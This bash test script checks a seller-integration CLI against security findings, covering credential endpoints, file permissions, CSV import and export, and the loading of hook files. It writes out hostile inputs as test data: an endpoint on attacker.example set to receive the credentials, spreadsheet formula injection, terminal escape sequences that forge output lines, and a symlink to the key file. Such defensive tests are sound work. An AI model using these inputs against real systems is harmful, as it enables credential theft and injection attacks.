#!/usr/bin/env bash
# security.sh: what issue 17 found, tried through the CLI as an attacker or a careless
# person would: the credential endpoints, file modes under umask 022, a planted admin
# token file, spreadsheet formulas and control characters in buyer data, NUL bytes and
# huge fields in CSV, and a secret given on the command line.
. "$SB_SOURCE_DIR/tests/lib.sh"
umask 022
expect_rc 0 $SB init
expect_rc 0 $SB import branches "$SRC/examples/data/branches.csv"

# the endpoints that receive the credentials: https or loopback only, and a non-Amazon
# host is named with what will be sent there
expect_rc 1 $SB settings set api.lwa_endpoint http://attacker.example/token
expect_err "plain http would send the Amazon credentials unencrypted"
expect_rc 0 $SB settings get api.lwa_endpoint
expect_eq "$(cat "$T/out")" "https://api.amazon.com/auth/o2/token" "lwa endpoint after refusal"
expect_rc 1 $SB settings set api.endpoint "http://127.0.0.1@attacker.example/"
expect_err "plain http would send"
expect_rc 0 $SB settings set api.lwa_endpoint https://attacker.example/token
expect_err "api.lwa_endpoint: the LWA client id, client secret and refresh token will now be sent to attacker.example, which is not Amazon"
expect_rc 0 $SB settings set api.endpoint http://127.0.0.1:9/
expect_err "api.endpoint: the Amazon access token will now be sent to 127.0.0.1, which is not Amazon"
expect_rc 0 $SB settings set api.lwa_endpoint https://api.amazon.co.uk/auth/o2/token
[ -s "$T/err" ] && bad "a notice for Amazon's own host: $(cat "$T/err")" || ok
expect_rc 0 $SB settings unset api.endpoint
# a plain-http endpoint stored by an older version is refused before anything is sent
sqlite3 "$SELLERBRIDGE_DB" "UPDATE settings SET value = 'http://attacker.example/t' WHERE name = 'api.lwa_endpoint'"
echo "amzn1.application-oa2-client.x" | $SB credentials set lwa.client_id >/dev/null
echo "client-secret-value-42" | $SB credentials set lwa.client_secret >/dev/null
echo "Atzr|IwEBIMYSECRETREFRESHTOKEN0123456789" | $SB credentials set lwa.refresh_token >/dev/null
expect_rc 1 $SB sync orders
expect_err "plain http would send the Amazon credentials unencrypted"
expect_rc 0 $SB settings unset api.lwa_endpoint

# file modes under umask 022: the database and, while a connection is open, its -wal and
# -shm; the key; the admin token; an export
expect_eq "$(stat -c %a "$SELLERBRIDGE_DB")" 600 "database mode"
expect_eq "$(stat -c %a "$SELLERBRIDGE_KEY_FILE")" 600 "key file mode"
$SB web --listen 127.0.0.1:0 >"$T/web.out" 2>&1 &
web_pid=$!
for i in $(seq 200); do grep -q "dashboard at" "$T/web.out" && break; sleep 0.05; done
grep -q "dashboard at" "$T/web.out" && ok || bad "web did not start: $(cat "$T/web.out")"
URL=$(sed -n 's/^sellerbridge web: dashboard at \(http[^ ]*\)$/\1/p' "$T/web.out")
for f in "$SELLERBRIDGE_DB-wal" "$SELLERBRIDGE_DB-shm" "$SELLERBRIDGE_DB.web-token"; do
  [ -e "$f" ] && expect_eq "$(stat -c %a "$f")" 600 "mode of $(basename "$f")" || bad "$f missing"
done
# the 401 answer names no file
body=$(curl -s "${URL}api/v1/summary")
case "$body" in *"admin token"*) ok ;; *) bad "401 body: $body" ;; esac
case "$body" in *"$T"*|*web-token*) bad "401 body names the token file: $body" ;; *) ok ;; esac
kill $web_pid; wait $web_pid
expect_rc 0 $SB export branches --out "$T/branches.csv"
expect_eq "$(stat -c %a "$T/branches.csv")" 600 "export mode"
grep -q "LA Warehouse" "$T/branches.csv" && ok || bad "export content"
echo old >"$T/loose.csv"; chmod 644 "$T/loose.csv"
expect_rc 0 $SB export branches --out "$T/loose.csv"
expect_eq "$(stat -c %a "$T/loose.csv")" 600 "export over an existing 0644 file"
# a token file others can read or write, another user's, or a symbolic link is refused
chmod 644 "$SELLERBRIDGE_DB.web-token"
expect_rc 1 $SB web token-path
expect_err "may be read or changed by others (mode 644); refused"
chmod 620 "$SELLERBRIDGE_DB.web-token"
expect_rc 1 $SB web --listen 127.0.0.1:0
expect_err "may be read or changed by others (mode 620); refused"
chmod 600 "$SELLERBRIDGE_DB.web-token"
ln -s "$SELLERBRIDGE_DB.web-token" "$T/link-token"
expect_rc 1 $SB web token-path --token-file "$T/link-token"
expect_err "is a symbolic link; refused"
expect_rc 0 $SB web token-path
expect_out "$SELLERBRIDGE_DB.web-token"

# spreadsheet formulas from a buyer: exported as text (a leading '), and the export
# imports back to the very same values
cat > "$T/evil.csv" <<'CSV'
ref,name,company,phone,address1,city,email
C-1,"=HYPERLINK(""http://x.example/?""&A1,""click"")",@SUM(A1:A9),+1 555 0100,-2+3,"	tab first",a@b.example
C-2,'=already quoted,'plain quote,''+61 2,"'@x",Sydney,c@d.example
C-3,Plain Name,ACME,0400 000 000,1 Main St,"
CR first",e@f.example
CSV
printf 'ref,name,company,phone,address1,city,email
C-4,"
=cr first",x,,,,g@h.example
' > "$T/cr.csv"
expect_rc 0 $SB import customers "$T/evil.csv"
expect_rc 0 $SB import customers "$T/cr.csv"
q() { sqlite3 "$SELLERBRIDGE_DB" "SELECT name || '|' || company || '|' || phone || '|' || address1 || '|' || quote(city) FROM customers WHERE ref = '$1'"; }
expect_eq "$(q C-1)" "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")|@SUM(A1:A9)|+1 555 0100|-2+3|'	tab first'" "formula cells imported as they were written"
expect_eq "$(q C-2)" "=already quoted|'plain quote|'+61 2|@x|'Sydney'" "a leading ' before a formula character is taken off, others kept"
customers_before=$(sqlite3 "$SELLERBRIDGE_DB" "SELECT ref, name, company, phone, address1, city, email FROM customers ORDER BY ref" | md5sum)
expect_rc 0 $SB export customers --out "$T/customers.csv"
grep -qF "\"'=HYPERLINK(" "$T/customers.csv" && ok || bad "= cell not neutralised: $(cat "$T/customers.csv")"
grep -qF "\"'@SUM(A1:A9)\"" "$T/customers.csv" && ok || bad "@ cell not neutralised"
grep -qF "\"'+1 555 0100\"" "$T/customers.csv" && ok || bad "+ cell not neutralised"
grep -qF "\"'-2+3\"" "$T/customers.csv" && ok || bad "- cell not neutralised"
grep -qF "\"'=already quoted\"" "$T/customers.csv" && ok || bad "= cell not neutralised"
grep -qF "\"''+61 2\"" "$T/customers.csv" && ok || bad "a stored '+ cell not quoted once more"
python3 - "$T/customers.csv" <<'PY' && ok || bad "a cell of the export starts like a formula"
import csv, sys
for row in csv.reader(open(sys.argv[1], newline='')):
    for cell in row:
        assert not cell or cell[0] not in '=+-@\t\r', cell
PY
sqlite3 "$SELLERBRIDGE_DB" "UPDATE customers SET name = 'changed', company = NULL, city = 'x' WHERE ref IN ('C-1','C-2','C-4')"
expect_rc 0 $SB import customers "$T/customers.csv"
expect_eq "$(sqlite3 "$SELLERBRIDGE_DB" "SELECT ref, name, company, phone, address1, city, email FROM customers ORDER BY ref" | md5sum)" "$customers_before" "export -> import round trip"

# a NUL byte is refused with its line and column, not cut off; a huge field is refused
# with a clear error and without holding it in memory
printf 'name,country,state,address
OK,US,,1 Road
Bad\000Name,US,,x
Also,US,,ok\000tail
' > "$T/nul.csv"
expect_rc 1 $SB import branches "$T/nul.csv"
expect_err "nul.csv:3: column 1: a NUL byte (at byte 4 of the field) is not allowed"
expect_err "nul.csv:4: column 4: a NUL byte (at byte 3 of the field) is not allowed"
expect_err "nothing was imported"
python3 -c "
import sys
sys.stdout.write('name,country,state,address\nBig,US,,\"' + 'x' * (50 << 20) + '\"\n')" > "$T/big.csv"
python3 -c "
import sys
sys.stdout.write('name,colour\n' + 'x' * (50 << 20) + '\n')" > "$T/same-size.csv"
# the memory of reading a 50 MB file that is refused at its header, as the yardstick
expect_rc 1 /usr/bin/time -f "%M" -o "$T/rss0" $SB import branches "$T/same-size.csv"
expect_rc 1 /usr/bin/time -f "%M" -o "$T/rss" $SB import branches "$T/big.csv"
expect_err "big.csv:2: column 4: a field longer than the 65536 bytes allowed"
rss0=$(tail -1 "$T/rss0"); rss=$(tail -1 "$T/rss")
[ "$rss" -lt $((rss0 + 16384)) ] && ok || bad "a 50 MB field took $rss KiB, reading the file alone $rss0 KiB"
python3 -c "
import sys
sys.stdout.write('name,country,state,address\nBig,US,,\"' + 'y' * 65537 + '\"\nNext,US,,' + 'z' * 65537 + '\n')" > "$T/big2.csv"
expect_rc 1 $SB import branches "$T/big2.csv"
expect_err "big2.csv:2: column 4: the field has 65537 bytes, more than the 65536 allowed"
expect_err "big2.csv:3: column 4: the field has 65537 bytes, more than the 65536 allowed"

# terminal control sequences and newlines from a buyer or a setting are printed escaped
# in every table (--json escapes them as JSON does)
expect_rc 0 $SB import products "$SRC/examples/data/products.csv"
printf 'ref,name,city\nC-ESC,"\033[2J\033]0;pwned\007Evil\nFAKE LINE \302\233 31m",Paris\n' > "$T/esc.csv"
expect_rc 0 $SB import customers "$T/esc.csv"
printf 'order_ref,branch,sku,qty,customer_ref\nORD-ESC,LA Warehouse,MUG-BLK-12,1,C-ESC\n' > "$T/esc-orders.csv"
expect_rc 0 $SB import orders "$T/esc-orders.csv"
# as if Amazon had sent it: this integration's, with a reason that carries a sequence too
sqlite3 "$SELLERBRIDGE_DB" "UPDATE sales_orders SET integration_id = (SELECT id FROM integrations WHERE name = 'main'),
  source = 'amazon', stage = 'needs_attention', attention_reason = 'bad ' || char(27) || '[31mred' WHERE order_ref = 'ORD-ESC'"
no_controls() {   # $1 = what; the output in $T/out has no ESC, BEL, C1 CSI or forged line
  if LC_ALL=C grep -q "$(printf '[\033\007]')" "$T/out" || grep -q "^FAKE LINE" "$T/out" || LC_ALL=C grep -qF "$(printf '\302\233')" "$T/out"; then
    bad "$1 printed control characters: $(cat -v "$T/out" | head -c 600)"
  else ok; fi
}
expect_rc 0 $SB orders list
no_controls "orders list"
expect_out 'bad \x1b[31mred'
expect_rc 0 $SB orders show ORD-ESC
no_controls "orders show"
expect_out '\x1b[2J\x1b]0;pwned\x07Evil\nFAKE LINE \u009b 31m'
expect_rc 0 $SB --json orders list
python3 -c "import json; d=json.load(open('$T/out')); assert any(o['customer'].startswith('\x1b[2J') for o in d['orders'])" && ok || bad "orders list --json keeps the text"
expect_rc 0 $SB settings set integration.seller_id "$(printf 'A2SELLER\nforged.setting                     pwned\033[0m')"
expect_rc 0 $SB settings list
no_controls "settings list"
grep -q "^forged.setting" "$T/out" && bad "settings list forged a line" || ok
expect_out 'A2SELLER\nforged.setting'
expect_rc 0 $SB settings get integration.seller_id
no_controls "settings get"

# a secret on the command line is taken with a warning; stdin is the way
expect_rc 0 $SB credentials set lwa.client_secret "client-secret-value-42"
expect_err "the value was given on the command line"
expect_err "credentials set lwa.client_secret < file"
echo "client-secret-value-42" | $SB credentials set lwa.client_secret >"$T/out" 2>"$T/err" && ok || bad "credential from stdin"
[ -s "$T/err" ] && bad "stdin gave a warning: $(cat "$T/err")" || ok

# a rule pack's hook file that is a symbolic link (to the key file), a hard link to a file
# elsewhere or a FIFO is refused without being read: the key never shows in an error
key=$(cat "$SELLERBRIDGE_KEY_FILE")
mkdir -p "$T/pack1" "$T/pack2" "$T/pack3"
ln -s "$SELLERBRIDGE_KEY_FILE" "$T/pack1/route.lua"
expect_rc 1 $SB rules check "$T/pack1"
expect_out "route.lua: a symbolic link; a hook must be a regular file in the pack folder"
cp "$SELLERBRIDGE_KEY_FILE" "$T/key-copy"; chmod 600 "$T/key-copy"
ln "$T/key-copy" "$T/pack2/gl.lua"
expect_rc 1 $SB rules check "$T/pack2"
expect_out "gl.lua: has 2 hard links, so it may be a file outside the pack folder; refused"
mkfifo "$T/pack3/status.lua"
expect_rc 1 timeout 20 $SB rules check "$T/pack3"
expect_out "status.lua: not a regular file (a device, FIFO or folder); refused"
mkdir -p "$T/pack4"; printf 'return function(order) return {download = true} end\n' > "$T/pack4/status.lua"
expect_rc 0 $SB rules check "$T/pack4"
chmod 666 "$T/pack4/status.lua"
expect_rc 1 $SB rules check "$T/pack4"
expect_out "status.lua: may be changed by other users (mode 666"
cat "$T/out" "$T/err" | grep -qF "${key:0:16}" && bad "the key shows in a load error" || ok
expect_rc 1 $SB rules use "$T/pack1"
cat "$T/out" "$T/err" | grep -qF "${key:0:16}" && bad "the key shows in rules use" || ok

finish
